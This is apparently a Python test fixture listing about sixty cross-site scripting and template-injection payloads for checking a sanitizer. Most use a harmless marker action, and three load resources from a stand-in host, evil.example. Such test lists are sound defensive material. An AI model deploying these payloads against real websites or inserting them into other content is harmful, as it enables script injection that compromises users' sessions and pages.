"""Sixty ways in which a text may try to become script, as visitors, documents, file names and staff could write it."""

from __future__ import annotations

_ACT = "window.__xss=1"
PAYLOADS = [
    f"<script>{_ACT}</script>", f"<ScRiPt>{_ACT}</sCrIpT>", f"<script src=data:,{_ACT}></script>", f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>", f"</script><script>{_ACT}</script>", f"--><script>{_ACT}</script>", f"]]><script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>", f"<img src=x onerror='{_ACT}'>", f'"><img src=x onerror={_ACT}>', f"'><img src=x onerror={_ACT}>",
    f"<img/src=x/onerror={_ACT}>", f"<svg onload={_ACT}>", f"<svg/onload={_ACT}>", f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x>", f"<svg><a xlink:href='javascript:{_ACT}'><text>x</text></a></svg>",
    f"<math><mtext><style><img src=x onerror={_ACT}></style></mtext></math>", f"<body onload={_ACT}>", f"<iframe srcdoc='<script>parent.{_ACT}</script>'>",
    f"<iframe src=javascript:parent.{_ACT}>", f"<object data=javascript:{_ACT}>", f"<embed src=javascript:{_ACT}>", f"<a href=javascript:{_ACT}>x</a>",
    f"<a href='jAvAsCrIpT:{_ACT}'>x</a>", f"<a href='java\tscript:{_ACT}'>x</a>", f"<form action=javascript:{_ACT}><button>x</button></form>",
    f"<button formaction=javascript:{_ACT}>x</button>", f"<input autofocus onfocus={_ACT}>", f"<select autofocus onfocus={_ACT}>",
    f"<details open ontoggle={_ACT}>", f"<video src=x onerror={_ACT}>", f"<audio src=x onerror={_ACT}>", f"<marquee onstart={_ACT}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_ACT}'>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", f"<div style=\"background:url(javascript:{_ACT})\">x</div>", f"<x onclick={_ACT} tabindex=1 autofocus onfocus={_ACT}>",
    f"<template><script>{_ACT}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={_ACT}>\">", f"<xmp><script>{_ACT}</script></xmp>",
    f"\" onmouseover=\"{_ACT}", f"' onfocus='{_ACT}' autofocus='", f"\" autofocus onfocus=\"{_ACT}", f"`-{_ACT}-`", f"${{{_ACT}}}", f"{{{{{_ACT}}}}}", f"{{% set x = {_ACT} %}}",
    "{{ ''.__class__.__mro__ }}", "{{ 7*7 }}", f"javascript:{_ACT}", f"&lt;script&gt;{_ACT}&lt;/script&gt;", f"&#60;script&#62;{_ACT}&#60;/script&#62;", f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"%3Cscript%3E{_ACT}%3C/script%3E", f"＜script＞{_ACT}＜/script＞", f"<script\x0c>{_ACT}</script>", f"<<script>{_ACT};//<</script>",
]  # fmt: skip
